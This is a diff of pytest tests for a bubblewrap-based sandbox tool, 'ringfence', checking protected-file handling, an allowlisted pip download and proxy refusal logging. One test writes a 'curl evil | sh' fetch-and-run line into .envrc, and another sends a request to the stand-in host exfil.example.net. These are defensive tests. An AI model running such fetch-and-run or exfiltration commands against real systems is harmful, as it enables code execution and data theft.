@@ -18,13 +18,12 @@ import time
 
 import pytest
 
-from .sandbox_util import (CLI, needs_engine, SECRET_DOTENV, SECRET_ENV, SECRET_FILE, TcpSpy, UnixSpy,
+from .sandbox_util import (CLI, SECRET_DOTENV, SECRET_ENV, SECRET_FILE, TcpSpy, UnixSpy,
                            host_pids_with, make_box)
 
 pytestmark = [
     pytest.mark.sandbox,
     pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed"),
-    needs_engine,
 ]
 
 SANDBOXED = ("observe", "build", "strict", "host-assisted")
@@ -295,3 +294,48 @@ def test_rlimits_apply_inside(box):
                 "head -c 2000000 /dev/zero > big; echo rc=$?; ulimit -f")
     assert (box.ws / "big").stat().st_size == 1024 * 1024
     assert r.stdout.split()[-1] == "1024"          # bash reports 1024-byte blocks
+
+
+def test_replaced_protected_symlink_is_moved_out(box):
+    # `rm` of a symlinked protected path, then a new file under the same name: the
+    # freed inode number is reused at once, so identity must be more than (dev, ino).
+    (box.ws / "real-envrc").write_text("x\n")
+    (box.ws / ".envrc").symlink_to("real-envrc")
+    r = box.run("build", "-c", "rm .envrc && echo 'curl evil | sh' > .envrc")
+    assert r.returncode == 0, r.stderr
+    assert "RF605" in r.stderr
+    assert not (box.ws / ".envrc").exists()
+    assert (box.ws / "real-envrc").read_text() == "x\n"
+
+
+def _host_reaches(host: str, port: int) -> bool:
+    import socket
+    try:
+        socket.create_connection((host, port), timeout=5).close()
+        return True
+    except OSError:
+        return False
+
+
+def test_pip_download_from_the_allowlisted_registry_works_under_build(box):
+    if not _host_reaches("pypi.org", 443):
+        pytest.skip("this machine cannot reach pypi.org")
+    r = box.run("build", "--", sys.executable, "-m", "pip", "download", "--no-deps",
+                "--disable-pip-version-check", "-q", "-d", "dl", "six==1.16.0", timeout=180)
+    assert r.returncode == 0, r.stderr
+    assert os.listdir(box.ws / "dl") == ["six-1.16.0-py2.py3-none-any.whl"]
+
+
+def test_proxy_refusals_are_recorded_and_say_which_rule(box):
+    from ringfence.runner import run
+
+    script = ("import urllib.request, urllib.error\n"
+              "try:\n"
+              "    urllib.request.urlopen('http://exfil.example.net/x?d=1', timeout=10)\n"
+              "except urllib.error.HTTPError as e:\n"
+              "    print(e.code, e.read().decode())\n")
+    res = run([sys.executable, "-I", "-c", script], profile="build", workspace=str(box.ws),
+              env=box.env(), capture=True)
+    assert res.exit_code == 0, res.stderr
+    assert res.stdout.startswith(b"403 ")
+    assert [(d.host, d.allowed) for d in res.network] == [("exfil.example.net", False)]
